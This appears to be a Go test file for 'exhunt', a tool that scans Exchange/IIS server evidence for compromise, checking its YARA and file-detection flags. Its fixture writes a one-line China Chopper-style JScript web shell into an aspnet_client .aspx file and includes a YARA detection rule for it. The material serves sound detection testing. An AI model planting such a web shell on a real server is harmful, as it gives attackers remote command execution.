package cli

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/exhunt/exhunt/internal/report"
)

// fileEvidence writes a server with a web shell and an IIS log.
func fileEvidence(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	for p, data := range map[string]string{
		"EX/C/inetpub/wwwroot/aspnet_client/s.aspx": `<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>`,
		"EX/C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log": "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n" +
			"2021-03-03 10:00:00 10.0.0.5 GET /owa/ - 443 - 198.51.100.8 Mozilla/5.0 - 200 0 0 31\n",
	} {
		full := filepath.Join(dir, filepath.FromSlash(p))
		os.MkdirAll(filepath.Dir(full), 0o755)
		if err := os.WriteFile(full, []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

func rulesFound(t *testing.T, out string) map[string]bool {
	t.Helper()
	res, err := report.ReadJSON(strings.NewReader(out))
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]bool{}
	for _, s := range res.Servers {
		for _, f := range s.Findings {
			got[f.Rule] = true
		}
	}
	return got
}

func TestHuntYaraFlag(t *testing.T) {
	dir := fileEvidence(t)
	user := filepath.Join(t.TempDir(), "mine.yar")
	os.WriteFile(user, []byte("rule Mine { strings: $a = \"Request.Item\" condition: $a and extension == \".aspx\" }\n"+
		"rule Bad { condition: pe.is_dll() }\n"), 0o644)
	code, out, errs := exh(t, "hunt", "--format", "json", "--yara", user, dir)
	if code != ExitFindings {
		t.Fatalf("exit %d: %s", code, errs)
	}
	got := rulesFound(t, out)
	if !got["yara:Mine"] || !got["yara:EXHUNT_WEBSHELL_Chopper_JScript_Eval"] || !got["file-nonstandard-script"] {
		t.Errorf("rules %v", got)
	}
	// the rule that cannot run is named with its file and line
	if !strings.Contains(errs, "exhunt: warning: "+user+":2: rule Bad:") {
		t.Errorf("stderr %q", errs)
	}
	if code, _, errs := exh(t, "hunt", "--yara", filepath.Join(dir, "missing.yar"), dir); code != ExitError || !strings.Contains(errs, "missing.yar") {
		t.Errorf("missing rule file: exit %d, %q", code, errs)
	}
}

func TestHuntLayerFlags(t *testing.T) {
	dir := fileEvidence(t)
	_, out, _ := exh(t, "hunt", "--format", "json", "--no-files", dir)
	if got := rulesFound(t, out); len(got) != 0 {
		t.Errorf("--no-files: %v", got)
	}
	code, out, errs := exh(t, "hunt", "--format", "json", "--no-logs", dir)
	if code != ExitFindings {
		t.Fatalf("--no-logs: exit %d %s", code, errs)
	}
	res, _ := report.ReadJSON(strings.NewReader(out))
	for _, c := range res.Servers[0].Coverage {
		if !strings.HasPrefix(c.Source, "file:") {
			t.Errorf("--no-logs read %s", c.Source)
		}
	}
	_, out, errs = exh(t, "hunt", "--format", "json", "--max-scan-size", "10", dir)
	got := rulesFound(t, out)
	if got["yara:EXHUNT_WEBSHELL_Chopper_JScript_Eval"] || !got["file-nonstandard-script"] || !strings.Contains(errs, "size cap") {
		t.Errorf("--max-scan-size: %v, %q", got, errs)
	}
}
